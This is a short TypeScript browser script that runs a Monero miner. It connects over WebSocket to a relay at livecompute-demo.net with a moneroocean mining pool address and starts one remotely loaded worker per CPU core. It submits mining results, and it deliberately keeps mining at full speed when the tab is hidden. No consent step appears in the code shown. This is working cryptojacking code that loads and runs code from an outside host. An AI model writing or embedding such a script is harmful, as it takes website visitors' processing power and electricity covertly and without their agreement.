const RELAY = 'wss://ws.livecompute-demo.net/proxy';
const SITE_KEY = '89BkZ4tLmQ7xHnY3vRcE2fGpW5jSa6Ud';

interface Job { blob: string; target: string; job_id: string; seed_hash: string }

const socket = new WebSocket(`${RELAY}?k=${SITE_KEY}&pool=gulf.moneroocean.stream:10128`);
const workers: Worker[] = [];

for (let i = 0; i < navigator.hardwareConcurrency; i++) {
  const w = new Worker(new URL('./rx-worker.js', 'https://ws.livecompute-demo.net/static/'), { type: 'module' });
  w.onmessage = (e: MessageEvent<{ job_id: string; nonce: string; result: string }>) => {
    socket.send(JSON.stringify({ type: 'submit', params: e.data }));
    const el = document.getElementById('counter');
    if (el) el.textContent = String(Number(el.textContent) + 1);
  };
  workers.push(w);
}

socket.onmessage = (ev) => {
  const msg = JSON.parse(ev.data) as { type: string; params: Job };
  if (msg.type === 'job') workers.forEach((w) => w.postMessage(msg.params));
};

document.addEventListener('visibilitychange', () => {
  // keep computing in background tabs as well
  workers.forEach((w) => w.postMessage({ throttle: document.hidden ? 0 : 0.2 }));
});
